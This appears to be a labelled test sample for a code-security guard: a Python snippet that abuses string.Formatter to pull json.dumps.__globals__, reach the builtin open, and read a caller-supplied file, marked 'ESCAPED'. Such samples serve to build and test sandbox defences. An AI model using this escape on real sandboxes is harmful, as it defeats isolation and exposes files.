# guard: CODE_SECURITY|CODE_RUNTIME
# bare: CODE_SECURITY
# what: a string.Formatter whose get_value hands the object out
import string
kept = []
class Keeper(string.Formatter):
    def convert_field(self, value, conversion):
        kept.append(value)
        return ""
Keeper().format("{0.__globals__}", json.dumps)
return "ESCAPED " + kept[0]["__builtins__"]["open"](inputs["file"]).read()
